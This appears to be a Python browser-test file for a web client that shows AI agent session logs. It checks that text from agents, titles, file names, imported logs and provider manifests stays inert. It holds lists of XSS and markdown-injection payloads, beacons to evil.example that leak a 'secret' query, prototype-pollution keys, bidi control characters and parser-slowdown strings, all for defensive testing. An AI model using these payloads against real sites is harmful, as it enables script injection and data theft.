"""What an agent, a file name, a title, a log from elsewhere or another client may say is text, and stays text: no script
runs, no element comes to be, nothing is loaded, nothing is turned around."""

import base64
import json

from browser import until
from hub import eventually
from logs import Log

# Each would set `pwned`, load something from outside, or bring an element that has no business here.
ATTACKS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>@import url(http://evil.example/a.css)</style><link rel=stylesheet href=http://evil.example/b.css>",
    "<base href=http://evil.example/><form action=http://evil.example/><input name=body autofocus onfocus=pwned=1>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "\"><script>window.pwned=1</script>",
    "' onmouseover='window.pwned=1' x='",
    "javascript:window.pwned=1",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    "__proto__",
    "constructor",
]
MARKDOWN = [
    "[click](javascript:window.pwned=1)",
    "[click](  jAvAsCrIpT&#58;window.pwned=1)",
    "[click](java\nscript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1 \"t\")",
    "[https://good.example](https://evil.example/ '\" onclick=\"window.pwned=1')",
    "![alt](http://evil.example/pixel.png)",
    "![alt](x\"onerror=\"window.pwned=1)",
    "![a](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "<https://evil.example/\"onmouseover=\"window.pwned=1>",
    "<javascript:window.pwned=1>",
    "[ref]\n\n[ref]: javascript:window.pwned=1",
    "```<script>window.pwned=1</script>\n<script>window.pwned=1</script>\n```",
    "```\" onmouseover=\"window.pwned=1\ncode\n```",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <svg onload=window.pwned=1> | [x](javascript:pwned=1) |",
    "`<img src=x onerror=window.pwned=1>`",
    "# <img src=x onerror=window.pwned=1>",
    "- [ ] <img src=x onerror=window.pwned=1>",
    "\\<img src=x onerror=window.pwned=1\\>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "\u202egnp.exe\u202c and \u2066isolated\u2069 and a bell\u0007, an escape\u001b[31m, a null-like \u0000 end",
]

# Where something could stand that acts; what the client itself has of these is of its own origin.
LOOK = """(origin) => {
    const found = [];
    const own = (value) => new URL(value, origin + "/").origin === origin;
    const roots = [document];
    for (let root; (root = roots.pop());) for (const element of root.querySelectorAll("*")) {
        if (element.shadowRoot) roots.push(element.shadowRoot);
        const name = element.localName;
        if (["iframe", "frame", "object", "embed", "base", "applet", "frameset", "foreignobject", "animate", "set", "portal",
             "math", "video", "audio", "source", "track", "marquee"].includes(name)) found.push(`<${name}>`);
        if (["script", "style", "link", "meta"].includes(name) && !document.head.contains(element)) found.push(`<${name}> in the body`);
        if (name === "script" && !own(element.src)) found.push(`<script ${element.src}>`);
        if (name === "form" && element.hasAttribute("action")) found.push("a form that goes somewhere");
        for (const { name: attribute, value } of element.attributes) {
            if (attribute.startsWith("on")) found.push(`${name} ${attribute}`);
            if (/^(src|srcset|data|poster|background|ping|srcdoc|action|formaction|xlink:href)$/.test(attribute) &&
                !/^(data:image\\/(png|jpeg|gif|webp|avif)[;,]|blob:)/.test(value) && !(own(value) && ["script", "img"].includes(name))) {
                found.push(`${name} ${attribute}=${value}`);
            }
            if (attribute === "style" && /url\\s*\\(|expression|@import/i.test(value)) found.push(`style ${value}`);
        }
        if (name === "a" && element.hasAttribute("href") && !element.getAttribute("href").startsWith("#")) {
            if (!["http:", "https:", "mailto:", "blob:"].includes(element.protocol)) found.push(`a link to ${element.href}`);
            if (!own(element.href) && !(element.relList.contains("noopener") && element.relList.contains("noreferrer") &&
                element.target === "_blank")) found.push(`a link that gives itself away: ${element.outerHTML}`);
        }
    }
    for (const hint of document.querySelectorAll("link")) {
        if (!own(hint.href)) found.push(`a link element to ${hint.href}`);
    }
    if ("pwned" in window) found.push("a script ran");
    const turned = document.body.innerText.match(/[\\u0000-\\u0008\\u000b-\\u001f\\u007f\\u0080-\\u009f\\u202a-\\u202e\\u2066-\\u2069]/);
    if (turned) found.push(`a character that acts: U+${turned[0].codePointAt(0).toString(16)} in ` +
        JSON.stringify(document.body.innerText.slice(Math.max(0, turned.index - 40), turned.index + 40)));
    if (({}).polluted !== undefined || Object.keys(Object.prototype).length) found.push("Object.prototype was changed");
    return found;
}"""


def check(page, daemon):
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert page.evaluate(LOOK, daemon.origin) == []


def hostile_log(attack):
    """One attack in every field of every kind of event."""
    log = Log(workspace="/tmp/" + attack.replace("/", "_").replace("\u0000", ""))
    by = {"name": attack, "id": attack, "transport": attack}
    log.created(title=attack, model=attack, mode=attack, effort=attack, tags=[attack])
    picture = {"name": attack, "mediaType": "image/svg+xml", "data": base64.b64encode(b"<svg onload='pwned=1'/>").decode()}
    page = {"name": attack, "mediaType": "text/html", "text": attack}
    link = {"name": attack, "uri": "javascript:window.pwned=1"}
    log.begin(attack, attachments=[picture, page, link, {"uri": "http://evil.example/a.png", "mediaType": "image/png"}], by=by)
    log.event("status", {"type": "native_session", "nativeSessionId": attack, "model": attack, "mode": attack}, source="core")
    log.event("thinking", {"content": attack}, itemId=log.item())
    log.say(attack)
    log.say(attack, parentItemId="i2")
    log.event("message", {"role": "system", "content": attack}, itemId=log.item())
    log.tool(attack, {attack: attack, "command": attack, "path": attack, "__proto__": {"polluted": 1}}, attack, title=attack,
             diff={"path": attack, "oldText": attack, "newText": attack + "\n" + attack})
    log.tool(attack, [attack], attack, status="failed", kind="other", diff={"path": attack, "unified": f"--- {attack}\n+{attack}"})
    log.tool("Task", attack, {"type": "html", "content": attack}, kind="agent")
    log.event("plan", {"entries": [{"content": attack, "status": "pending", "priority": attack}]})
    log.event("permission_requested", {
        "requestId": attack, "tool": attack, "title": attack, "args": {"command": attack}, "reason": attack,
        "options": [{"optionId": attack, "label": attack, "kind": "allow_once"}]}, itemId=log.item())
    log.event("permission_resolved", {"requestId": attack, "outcome": "selected", "optionId": attack, "by": by}, source="user")
    log.event("question_requested", {
        "requestId": "q" + attack, "purpose": "plan_approval", "body": attack,
        "questions": [{"id": attack, "header": attack, "text": attack, "multiple": False, "other": True,
                       "options": [{"label": attack, "description": attack}]}]})
    log.event("question_resolved", {"requestId": "q" + attack, "outcome": "answered", "answers": {attack: attack}, "by": by},
              source="user")
    log.event("usage", {"input": 1, "output": 1, "cached": 0, "model": attack})
    log.event("quota", {"status": "warning", "window": attack})
    for status in ("renamed", "model", "mode", "effort", "process_started", "queue_held", "provider_switched", "fallback",
                   "parked", "recovered", "made_up", attack):
        log.event("status", {"type": status, "title": attack, "model": attack, "mode": attack, "effort": attack, "reason": attack,
                             "code": attack, "from": attack, "to": attack, "turnId": attack}, source="core")
    log.event("error", {"code": attack, "message": attack, "recoverable": True, "details": {attack: attack},
                        "actions": [{"id": attack, "label": attack}, {"id": "retry", "label": attack}]}, source="core")
    log.event("custom", {"type": attack, "data": {attack: attack}})
    log.event(attack, {attack: attack})
    log.end(stopReason=attack, status="failed")
    return log


def show_everything(page):
    """Everything that folds is opened, so that nothing escapes the look."""
    page.evaluate("""() => {
        for (const folded of document.querySelectorAll("main details:not([open]) > summary, main [aria-expanded=false]:not([aria-haspopup])"))
            folded.click();
    }""")


def test_every_field_of_a_log(web, daemon):
    # So high that the list shows all of its rows.
    page = web.open(daemon, height=9000)
    for attack in [*ATTACKS, *MARKDOWN]:
        session = daemon.import_log(hostile_log(attack).lines)
        page.goto(daemon.origin + session.address)
        until(page, "(id) => document.querySelector('[data-seq]')?.closest('[data-session]')?.dataset.session === id", session.id)
        show_everything(page)
        assert page.evaluate(LOOK, daemon.origin) == [], attack
    # What was one attack's may act later, or in the list of sessions.
    check(page, daemon)


def test_what_an_agent_says_live(web, daemon):
    page = web.open(daemon, height=9000)
    session = daemon.session(title=ATTACKS[1], tags=[ATTACKS[0], ATTACKS[2]])
    page.goto(daemon.origin + session.address)
    for attack in [*ATTACKS[:8], *MARKDOWN[:12]]:
        # What ends a directive, or parts its arguments, can't be in it.
        plain = attack.replace("]]", "] ]").replace("|", "/").replace("\n", " ")
        session.say(
            f"[[think:{plain}]] [[text:{plain}]] [[tool-fail:{plain.split()[0]} {plain}]] [[diff:/tmp/{plain}|{plain}|new]] "
            f"[[plan:*{plain}]] [[subagent:{plain}]]", wait=True)
        session.say(f"[[permission:once,reject {plain}]]")
        session.pending("permission")
        session.say("queued " + attack)
        page.get_by_role("button", name="Allow").first.wait_for()
        show_everything(page)
        check(page, daemon)
        session.permit()
        session.say(f"[[question:{plain}|{plain}|{plain} again]]")
        question = session.pending("question")
        until(page, "(text) => document.body.innerText.includes(text)", " again")
        check(page, daemon)
        daemon.post(f"{session.path}/questions/{question}", {"outcome": "declined"})
        session.say(f"[[error:internal {plain}]]", wait=True)
        check(page, daemon)


def test_a_provider_with_a_hostile_manifest(web, daemon):
    attack = ATTACKS[1]
    folder = daemon.home / "providers/evil"
    folder.mkdir(parents=True)
    for path in (folder.parent, folder):
        path.chmod(0o700)
    manifest = {
        "id": "evil", "name": attack, "description": attack, "adapter": "acp", "command": ["${self}"],
        "arguments": ["echo-agent"], "models": [attack], "modes": [attack],
        "install": [{"id": "x", "label": attack, "requires": [attack], "command": ["true"]}],
        "login": {"hint": attack, "command": ["true"]}, "authentication": {"environment": ["NOT_SET"]},
    }
    (folder / "module.json").write_text(json.dumps(manifest))
    (folder / "module.json").chmod(0o600)
    names = lambda: [p["name"] for p in daemon.get("/providers")["providers"]]  # noqa: E731
    eventually(lambda: f"the manifest is read: {daemon.get('/providers')}", lambda: attack in names())
    page = web.open(daemon, "/#/providers", height=3000)
    page.get_by_text(attack).first.wait_for()
    check(page, daemon)
    # The dialog in which a provider is picked.
    page.get_by_role("button", name="New session").first.click()
    page.get_by_role("dialog").get_by_text(attack).first.wait_for()
    check(page, daemon)


def test_a_link_of_an_agent_is_inert_until_it_is_asked_for(web, daemon):
    session = daemon.session()
    session.say("[[text:See [the manual](https://manual.example/page?x=1) for it.]]", wait=True)
    page = web.open(daemon, session.address)
    link = page.get_by_role("link", name="the manual")
    link.wait_for()
    # Whoever looks at it sees where it leads.
    assert "manual.example" in page.get_by_role("main").inner_text() + (link.get_attribute("title") or "")
    link.hover()
    check(page, daemon)
    with page.context.expect_page() as opened:
        link.click()
        # It is asked first where it leads, or opened at once in a page of its own: never in this one.
        if page.get_by_role("dialog").is_visible():
            page.get_by_role("dialog").get_by_role("button", name="Open").click()
    assert page.url.startswith(daemon.origin)
    opened.value.close()


def test_a_picture_from_elsewhere_is_not_loaded(web, daemon):
    session = daemon.session()
    session.say("[[text:Look: ![a chart](http://evil.example/pixel.png?secret) and more]]", wait=True)
    page = web.open(daemon, session.address)
    page.get_by_text("and more").first.wait_for()
    assert page.evaluate("[...document.images].map((image) => image.src).filter((src) => !src.startsWith(location.origin))") == []
    assert "evil.example" in page.get_by_role("main").inner_text()


# What makes a parser go over the same text again and again: each is 200 kB of it.
TRAPS = [
    "[", "]", "![", "[](", "[a](", "*a ", "**a ", "_a_", "`", "``a`", "<", "<a ", "&", "&#", "\\", "~~a ", "> ", "- ", "1. ", "|", "|a", "#", "```\n",
    "http://a", "www.", "a@b.", "*" * 50 + "a", "[a](<b", "![a](b \"", "\t", " ", "\u200b", "a*b_c`d[e]", "- [ ] ", ">- ", "=", "-", "\r",
]


def test_text_made_to_be_slow_is_read_in_linear_time(page):
    times = page.evaluate("""async (traps) => {
        const { parseMarkdown } = await import("/web/conversation/markdown.js");
        const times = {};
        for (const trap of traps) for (const newlines of [false, true]) {
            const unit = newlines ? (trap + trap + trap + "\\n") : trap;
            const text = unit.repeat(Math.ceil(200_000 / unit.length));
            const start = performance.now();
            parseMarkdown(text);
            times[JSON.stringify(trap) + (newlines ? " in lines" : "")] = performance.now() - start;
        }
        return times;
    }""", TRAPS)
    # What is linear takes a hundredth of that, what is quadratic a hundred times as long.
    assert not {trap: time for trap, time in times.items() if time > 2000}, times
    print(sorted(times.values())[-5:])
